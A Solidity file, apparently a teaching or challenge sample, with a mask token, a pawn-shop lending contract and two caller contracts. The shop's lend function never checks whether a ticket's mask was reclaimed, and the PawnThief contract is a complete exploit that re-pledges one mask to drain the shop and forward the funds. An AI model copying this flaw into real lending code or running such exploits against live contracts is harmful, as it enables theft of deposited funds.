// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

/// Pieces that a maker sells for coins.
contract Masks {
    uint256 public immutable price;
    address public immutable maker = msg.sender;
    uint256 public minted;
    mapping(uint256 => address) public ownerOf;
    mapping(uint256 => address) public getApproved;

    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);

    constructor(uint256 price_) {
        price = price_;
    }

    function buy(uint256 number) external payable {
        require(msg.value == number * price, "not the price");
        for (uint256 i = 0; i < number; i++) {
            ownerOf[++minted] = msg.sender;
            emit Transfer(address(0), msg.sender, minted);
        }
    }

    function approve(address to, uint256 tokenId) external {
        require(ownerOf[tokenId] == msg.sender, "not yours");
        getApproved[tokenId] = to;
    }

    function transferFrom(address from, address to, uint256 tokenId) external {
        require(ownerOf[tokenId] == from && (msg.sender == from || getApproved[tokenId] == msg.sender), "not allowed");
        (ownerOf[tokenId], getApproved[tokenId]) = (to, address(0));
        emit Transfer(from, to, tokenId);
    }
}

/// Lends coins on masks. A ticket outlives the mask that it was written for.
contract PawnShop {
    struct Ticket {
        address holder;
        uint256 mask;
        uint256 debt;
        bool returned;
    }

    Masks public immutable masks;
    mapping(uint256 => Ticket) public tickets;
    uint256 public issued;
    mapping(address => uint256) public savings;

    event Pledged(uint256 indexed ticket, address indexed holder, uint256 mask);
    event Lent(uint256 indexed ticket, uint256 amount);
    event Repaid(uint256 indexed ticket, uint256 amount);

    constructor(Masks masks_) {
        masks = masks_;
    }

    function save() external payable {
        savings[msg.sender] += msg.value;
    }

    function pledge(uint256 mask) external returns (uint256 ticket) {
        masks.transferFrom(msg.sender, address(this), mask);
        ticket = ++issued;
        tickets[ticket] = Ticket(msg.sender, mask, 0, false);
        emit Pledged(ticket, msg.sender, mask);
    }

    function reclaim(uint256 ticket) external {
        Ticket storage it = tickets[ticket];
        require(it.holder == msg.sender && it.debt == 0 && !it.returned, "not now");
        it.returned = true;
        masks.transferFrom(address(this), msg.sender, it.mask);
    }

    function lend(uint256 ticket, uint256 amount) external {
        Ticket storage it = tickets[ticket];
        require(it.holder == msg.sender, "not yours");
        it.debt += amount;
        require(it.debt <= masks.price() * 6 / 10, "too much");
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "not paid");
        emit Lent(ticket, amount);
    }

    function repay(uint256 ticket) external payable {
        tickets[ticket].debt -= msg.value;
        emit Repaid(ticket, msg.value);
    }

    /// What is owed on tickets without a mask.
    function uncovered() external view returns (uint256 sum) {
        for (uint256 i = 1; i <= issued; i++) if (tickets[i].returned) sum += tickets[i].debt;
    }
}

/// One mask, as many tickets as there are coins.
contract PawnThief {
    uint256 private mask;

    function run(PawnShop shop, uint256 rounds, address payable payee) external payable {
        Masks masks = shop.masks();
        if (mask == 0) {
            masks.buy{value: masks.price()}(1);
            mask = masks.minted();
        }
        uint256 each = masks.price() * 6 / 10;
        uint256[] memory tickets = new uint256[](rounds);
        for (uint256 i = 0; i < rounds; i++) {
            masks.approve(address(shop), mask);
            tickets[i] = shop.pledge(mask);
            shop.reclaim(tickets[i]);
        }
        for (uint256 i = 0; i < rounds; i++) shop.lend(tickets[i], each);
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}

/// Pledges many masks, thinks better of some, and borrows on the rest.
contract PawnCollector {
    function run(PawnShop shop, uint256 number, uint256 back, address payable payee) external payable {
        Masks masks = shop.masks();
        masks.buy{value: msg.value}(number);
        uint256 first = masks.minted() - number + 1;
        uint256[] memory tickets = new uint256[](number);
        for (uint256 i = 0; i < number; i++) {
            masks.approve(address(shop), first + i);
            tickets[i] = shop.pledge(first + i);
            if (i < back) {
                shop.reclaim(tickets[i]);
                masks.transferFrom(address(this), payee, first + i);
            }
        }
        for (uint256 i = back; i < number; i++) shop.lend(tickets[i], masks.price() * 6 / 10);
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}
